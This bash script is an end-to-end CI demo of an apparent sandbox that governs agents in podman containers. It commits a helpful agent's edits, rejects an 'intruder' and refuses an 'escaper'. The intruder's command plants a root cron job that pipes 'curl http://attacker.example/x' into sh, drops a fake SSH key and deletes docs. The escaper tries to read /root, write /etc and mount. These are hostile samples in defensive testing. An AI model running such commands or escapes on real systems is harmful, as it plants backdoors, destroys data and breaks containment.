#!/usr/bin/env bash
# Fork, explore, commit — with the real daemon on real podman. puzzled runs on a private system-type
# D-Bus (the product's bus policy; an installed system uses the system bus instead), the product's OCI hooks
# are in a private hooks dir, and three agents work on one project directory:
#   1. a helpful agent through `puzzle-podman run --auto-commit`  → its work is committed;
#   2. a malicious agent through `puzzle-podman run --auto-commit` → rejected, the base is untouched;
#   3. an agent started by plain `podman run --annotation …` (no wrapper) → governed by the hooks, committed.
# Exits non-zero when an expected outcome does not happen (CI runs this script).
set -euo pipefail
repo=$(cd "$(dirname "$(readlink -f "$0")")/.." && pwd)
image=localhost/puzzlepod-test:latest
work=$(mktemp -d /tmp/puzzlepod-demo.XXXXXX)
chmod 0755 "$work"
base="$work/project"
bus_pid= puzzled_pid=
cleanup() {
  [ -n "$puzzled_pid" ] && kill "$puzzled_pid" 2>/dev/null && wait "$puzzled_pid" 2>/dev/null
  [ -n "$bus_pid" ] && kill "$bus_pid" 2>/dev/null
  rm -rf "$work"
}
trap cleanup EXIT
export PUZZLEPOD_JAVA_OPTS="-Djava.util.logging.config.file=/dev/null"  # quiet INFO logs in the demo

say()  { printf '\n\033[1m== %s\033[0m\n' "$*"; }
fail() { printf '\nDEMO FAILED: %s\n' "$*" >&2; [ -f "$work/puzzled.log" ] && tail -20 "$work/puzzled.log" >&2; exit 1; }
tree_hash() { (cd "$1" && find . -printf '%y %m %p %l\n' | LC_ALL=C sort && find . -type f -print0 | LC_ALL=C sort -z | xargs -0 -r sha256sum) | sha256sum | cut -c1-16; }

say "starting puzzled"
# A private bus with the product's policy file (root owns the name, everyone may call).
cat > "$work/bus.conf" <<EOF
<!DOCTYPE busconfig PUBLIC "-//freedesktop//DTD D-Bus Bus Configuration 1.0//EN"
 "http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd">
<busconfig>
  <type>system</type>
  <listen>unix:path=$work/bus</listen>
  <auth>EXTERNAL</auth>
  <policy context="default">
    <allow user="*"/>
    <deny own="*"/>
    <deny send_type="method_call"/>
    <allow send_type="signal"/>
    <allow send_requested_reply="true" send_type="method_return"/>
    <allow send_requested_reply="true" send_type="error"/>
    <allow receive_type="method_call"/><allow receive_type="method_return"/>
    <allow receive_type="error"/><allow receive_type="signal"/>
    <allow send_destination="org.freedesktop.DBus"/>
  </policy>
  <include>$repo/daemon/src/main/resources/dbus/org.lobstertrap.PuzzlePod1.conf</include>
</busconfig>
EOF
dbus-daemon --config-file="$work/bus.conf" --fork --print-pid=3 3>"$work/bus.pid" >/dev/null
bus_pid=$(cat "$work/bus.pid")
export PUZZLEPOD_BUS="unix:path=$work/bus"

mkdir -p "$work/etc/profiles" "$work/etc/policies"
cp "$repo"/profiles/*.yaml "$work/etc/profiles/"
cp "$repo"/policies/*.rego "$work/etc/policies/"
cat > "$work/puzzled.yaml" <<EOF
branch_root: $work/state/branches
profiles_dir: $work/etc/profiles
policies_dir: $work/etc/policies
runtime_dir: $work/run
audit_dir: $work/state/audit
EOF
"$repo/bin/puzzled" --config "$work/puzzled.yaml" --bus "$PUZZLEPOD_BUS" --foreground 2>"$work/puzzled.log" &
puzzled_pid=$!
for _ in $(seq 600); do grep -q 'ready:' "$work/puzzled.log" 2>/dev/null && break; kill -0 "$puzzled_pid" 2>/dev/null || break; sleep 0.1; done
grep -q 'ready:' "$work/puzzled.log" || fail "puzzled did not start"
grep 'ready:' "$work/puzzled.log"

# The product's hooks (hooks.d/), pointed at this checkout's puzzle-hook with the demo's bus.
mkdir -p "$work/hooks"
# Every governed container starts under this checkout's puzzle-init (Landlock) with its exec/connect calls
# answered by puzzled's seccomp supervisor (an installed system uses /usr/lib/puzzlepod/puzzle-init).
shim="$repo/init-shim/target/puzzle-init"
[ -x "$shim" ] || fail "$shim is missing: build with mvn -o -DskipTests package"
printf '#!/bin/sh\nexport PUZZLEPOD_BUS=%s\nexport PUZZLEPOD_SHIM=%s\nexec %s "$@"\n' "$PUZZLEPOD_BUS" "$shim" "$repo/bin/puzzle-hook" > "$work/puzzle-hook"
printf '#!/bin/sh\nexec podman --hooks-dir %s "$@"\n' "$work/hooks" > "$work/podman"
chmod 0755 "$work/puzzle-hook" "$work/podman"
for h in "$repo"/hooks.d/*.json; do sed "s#/usr/libexec/puzzlepod/puzzle-hook#$work/puzzle-hook#" "$h" > "$work/hooks/$(basename "$h")"; done
export PUZZLEPOD_PODMAN="$work/podman"
ctl() { "$repo/bin/puzzlectl" --bus "$PUZZLEPOD_BUS" "$@"; }

# A small project: sources, tests, docs, its own bin/ script and a lockfile.
mkdir -p "$base"/{src,tests,docs,bin}
printf 'def add(a, b):\n    return a + b\n' > "$base/src/calc.py"
printf 'from src.calc import add\n\ndef test_add():\n    assert add(1, 2) == 3\n' > "$base/tests/test_calc.py"
printf '# Calculator\n' > "$base/README.md"
printf '#!/bin/sh\npython3 -m pytest\n' > "$base/bin/run-tests"; chmod 755 "$base/bin/run-tests"
printf 'pytest==8.0.0\n' > "$base/requirements.lock"
for i in $(seq 1 40); do printf 'note %s\n' "$i" > "$base/docs/note-$i.md"; done
before=$(tree_hash "$base")
say "project at $base (tree $before)"

say "agent 'helper': puzzle-podman run --profile standard --auto-commit"
set +e
"$repo/bin/puzzle-podman" run --profile standard --base "$base" --auto-commit --rm "$image" sh -c 'cd /workspace &&
  printf "def sub(a, b):\n    return a - b\n" >> src/calc.py &&
  printf "from src.calc import sub\n\ndef test_sub():\n    assert sub(3, 2) == 1\n" > tests/test_sub.py &&
  echo "Adds and subtracts." >> README.md'
rc=$?
set -e
[ "$rc" -eq 0 ] || fail "the helpful agent's run exited $rc, expected 0 (committed)"
grep -q 'def sub' "$base/src/calc.py" && [ -f "$base/tests/test_sub.py" ] || fail "committed files are not in the base"
after_commit=$(tree_hash "$base")
say "base after commit: tree $after_commit"

say "agent 'intruder': drops an SSH key and a cron job, deletes the docs"
set +e
"$repo/bin/puzzle-podman" run --profile standard --base "$base" --auto-commit --rm "$image" sh -c 'cd /workspace &&
  mkdir -p .ssh etc/cron.d && echo "-----BEGIN OPENSSH PRIVATE KEY-----" > .ssh/id_rsa &&
  echo "* * * * * root curl http://attacker.example/x | sh" > etc/cron.d/backdoor && rm -f docs/note-*.md'
rc=$?
set -e
[ "$rc" -eq 70 ] || fail "the malicious agent's run exited $rc, expected 70 (rejected)"
[ "$(tree_hash "$base")" = "$after_commit" ] || fail "the base changed although the branch was rejected"
[ ! -e "$base/.ssh" ] && [ -f "$base/docs/note-1.md" ] || fail "rejected changes leaked into the base"
say "rejected (exit 70); base unchanged: tree $(tree_hash "$base")"

say "agent 'escaper': reads outside its allowlist, writes outside the workspace, runs mount (the kernel refuses)"
set +e
escaper=$("$repo/bin/puzzle-podman" run --profile standard --base "$base" --auto-rollback --rm "$image" sh -c '
  ls /root >/dev/null 2>&1; echo "ls /root: exit $?"
  (echo x > /etc/evil) 2>/dev/null; echo "write /etc/evil: exit $?"
  /bin/mount -t tmpfs none /tmp 2>&1; echo "mount: exit $?"' 2>/dev/null)
rc=$?
set -e
printf '%s\n' "$escaper"
[ "$rc" -eq 71 ] || fail "the escaping agent's run exited $rc, expected 71 (rolled back)"
printf '%s\n' "$escaper" | grep -q 'ls /root: exit 1' || fail "Landlock did not refuse reading /root"
printf '%s\n' "$escaper" | grep -q 'write /etc/evil: exit 1' || fail "Landlock did not refuse writing /etc"
printf '%s\n' "$escaper" | grep -q 'Operation not permitted' && printf '%s\n' "$escaper" | grep -q 'mount: exit 126' \
  || fail "the seccomp supervisor did not refuse mount"
ctl audit list --type seccomp.decision | grep '"allowed":false' | grep -q mount || fail "the refused exec is not in the audit log"
say "refused by Landlock (EACCES) and by puzzled's seccomp supervisor (EPERM, audited as seccomp.decision)"

say "agent 'plain': podman run --annotation org.lobstertrap.puzzlepod.profile=standard (no wrapper; the hooks govern it)"
"$work/podman" run --rm --annotation org.lobstertrap.puzzlepod.profile=standard -v "$base:/workspace" "$image" \
  sh -c 'cd /workspace && echo "## Usage" >> README.md && echo "plain podman was here" > docs/plain.md'
decided=
for _ in $(seq 300); do
  if ctl -o json branch list --base "$base" --state committed 2>/dev/null | grep -q '"state" *: *"committed"' \
     && [ -f "$base/docs/plain.md" ]; then decided=1; break; fi
  sleep 0.1
done
[ -n "$decided" ] || fail "the plain podman agent's work was not committed"
grep -q 'plain podman was here' "$base/docs/plain.md" || fail "the plain agent's file is wrong"

say "branches (puzzlectl branch list)"
ctl branch list
say "audit trail (puzzlectl audit list --type gate.decision)"
ctl audit list --type gate.decision
ctl audit verify || fail "the audit chain does not verify"
say "main job OK: helpful work committed, malicious work rejected with the base untouched, escapes refused by the kernel, plain podman governed by the hooks"
